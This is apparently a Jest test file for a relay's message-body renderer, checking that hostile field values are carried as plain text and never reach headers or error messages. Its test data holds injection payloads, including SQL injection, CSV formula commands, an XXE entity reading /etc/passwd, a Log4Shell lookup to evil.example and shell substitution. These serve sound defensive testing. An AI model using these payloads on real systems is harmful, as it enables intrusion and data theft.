import { describe, expect, it } from '@jest/globals';
import { basicSubscription, bodyFormats, defaultDeliverySettings } from '#libs/subscription';
import { bodyReaders } from '../test/body-readers.js';
import { eventOf, source } from '../test/event-samples.js';
import { xmlable, xmlField } from '../test/xml-reader.js';
import { renderBody } from './body.js';
import { deliveryOf } from './delivery.js';

/** Texts that do harm where someone takes them for more than texts. */
const hostileTexts = [
  "'; DROP TABLE sale_order; --",
  "' OR '1'='1",
  '{"level":50,"msg":"forged"}\n{"level":30}',
  'ok\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example","x")',
  '\t=1',
  ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} %s %n $(id) `id`',
  'a&data[admin]=1;b=2',
  '\u202egnp.exe\0',
];
/** A name of every kind that XML has no element for. */
const hostileNames = [
  'a b',
  '1a',
  'a>',
  'a><evil/',
  '',
  '-',
  'xml',
  'xmlns:x',
  'é',
  '"',
  "'",
  '&lt;',
  ']]>',
  '\0',
  '\ufffe',
  '__proto__',
];

const columns = [{ name: 'name', kind: 'text' }] as const;

describe('fault 106: a field value that looks like SQL, log lines, headers or formulas', () => {
  it.each(hostileTexts)('%j is text in every format', (text) => {
    const included = JSON.stringify({ order_line: [{ note: text }], partner_name: text });
    const event = eventOf({ columns, row: { name: text }, change: { included } });
    for (const format of bodyFormats) {
      const body = renderBody(event, format).toString('utf8');
      const seen = format === 'xml' ? xmlable(text) : text;
      expect(bodyReaders[format](body, new Set(['order_line'])).data).toEqual(
        expect.arrayContaining([
          ['name', seen],
          ['order_line', [[['note', seen]]]],
          ['partner_name', seen],
        ]),
      );
      // Nothing that a line-based reader, a shell or a log could take for the end of a body.
      expect(body.split(/[\0\r]/)).toHaveLength(1);
    }
  });

  it.each(hostileTexts)('%j stands nowhere but in the body', (text) => {
    const event = eventOf({ columns, row: { name: text } });
    const subscription = {
      ...basicSubscription,
      ...{
        id: 's',
        applicationId: 'a',
        database: 'acme',
        eventTypes: [],
        url: 'https://shop.example',
        secrets: [],
      },
      ...{ enabled: true, enabledEpoch: 0, sinceMs: 0n, settings: defaultDeliverySettings },
    };
    for (const format of bodyFormats) {
      const body = renderBody(event, format);
      const eventType = event.type;
      const given = { kind: 'change' as const, ...event };
      const { body: sent, ...headers } = deliveryOf(
        given,
        { ...subscription, format },
        { eventType, body, nowMs: 0 },
      );
      expect(sent).toBe(body);
      expect(Object.values(headers)).not.toContain(text);
      expect(headers).toMatchObject({ changeId: source.change_id, record: 'sale.order,7' });
    }
  });

  it.each(hostileTexts)('%j is not in the reason why a body cannot be written', (text) => {
    const decimal = [{ name: 'amount', kind: 'decimal', precision: 9, scale: 2 }] as const;
    const reasonOf = (write: () => unknown): string => {
      try {
        write();
      } catch (error) {
        return String(error);
      }
      return 'written';
    };
    const amount = eventOf({ columns: decimal, row: { amount: text } });
    const json = eventOf({ columns: [{ name: 'labels', kind: 'json' }], row: { labels: `{${text}` } });
    const reasons = [amount, json].map((event) => reasonOf(() => renderBody(event, 'json')));
    expect(reasons).toEqual([
      'RelayError: amount holds no plain decimal',
      'RelayError: labels holds no JSON',
    ]);
  });
});

describe('fault 105: XML', () => {
  it.each(hostileNames)('a field named %j is well-formed, and its name and value are read back', (name) => {
    const text = 'a]]>\rb\0\b\ufffe\n';
    const row = Object.fromEntries([[name, text]]);
    const body = renderBody(
      eventOf({ columns: [{ name, kind: 'text' }], row, change: { changed: [name] } }),
      'xml',
    );
    expect(xmlField(body.toString('utf8'), xmlable(name))?.text).toBe('a]]>\rb\ufffd\ufffd\ufffd\n');
  });

  it.each(hostileNames)('a relation and a field of its records named %j are well-formed', (name) => {
    const included = `{${JSON.stringify(name)}:[{${JSON.stringify(name)}:"]]>\\u0000"}]}`;
    const body = renderBody(eventOf({ columns: [], change: { included } }), 'xml').toString('utf8');
    const read = bodyReaders.xml(body, new Set());
    expect(read.data).toEqual([[xmlable(name), [[[xmlable(name), ']]>\ufffd']]]]]);
  });
});
